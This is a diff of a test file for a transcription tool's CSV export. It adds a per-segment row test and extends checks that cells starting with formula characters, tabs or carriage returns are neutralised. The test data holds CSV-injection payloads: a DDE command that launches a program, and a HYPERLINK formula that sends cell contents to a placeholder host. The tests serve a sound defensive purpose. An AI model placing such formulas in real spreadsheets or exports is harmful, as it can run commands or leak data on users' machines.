@@ -131,6 +131,17 @@ def test_csv_has_start_end_speaker_text(interview):
     assert len(rows) == 4
 
 
+def test_csv_has_one_row_per_segment_even_of_one_speaker():
+    transcript = Transcript(language="fr", duration=4.0, segments=[
+        Segment(0.0, 1.0, "Un.", "S0"), Segment(1.5, 2.5, "Deux.", "S0"),
+        Segment(3.0, 4.0, "Trois.", None)], speakers={"S0": Speaker("S0", "Enquêtrice")})
+    text = text_of(render(transcript, "csv"))
+    assert text.split("\n") == ["start,end,speaker,text",
+                                 "00:00:00.000,00:00:01.000,Enquêtrice,Un.",
+                                 "00:00:01.500,00:00:02.500,Enquêtrice,Deux.",
+                                 "00:00:03.000,00:00:04.000,,Trois.", ""]
+
+
 def test_csv_cells_never_become_spreadsheet_formulas():
     from transcribe.export.tables import cell
 
@@ -147,9 +158,12 @@ def test_csv_cells_never_become_spreadsheet_formulas():
     assert all(text.startswith("'") for text in texts[:-1]), texts
     assert texts[-1] == "Bonjour, 1+1=2 - oui @ Lyon."  # mid-text signs untouched
     assert {row["speaker"] for row in rows} == {"'=cmd|' /C calc'!A0", "Enquêté"}
-    for value in [*dangerous, "\t=1+1", "\rnote", " \t@x"]:
+    # A tab or CR first neutralises the cell even before plain text (a spreadsheet may
+    # strip it and read what follows); spaces alone do not.
+    for value in [*dangerous, "\t=1+1", "\rnote", " \t@x", "\tplain"]:
         assert cell(value) == "'" + value
     assert cell("Oui - bien sûr") == "Oui - bien sûr" and cell("") == ""
+    assert cell("  plain") == "  plain" and cell("plain\t=1") == "plain\t=1"
     # The other formats keep the text as spoken.
     assert '=HYPERLINK("http://x.example/?"&A1,"clic")' in text_of(render(transcript, "txt"))
     assert json.loads(render(transcript, "json"))["segments"][2]["text"] == "-2+3"
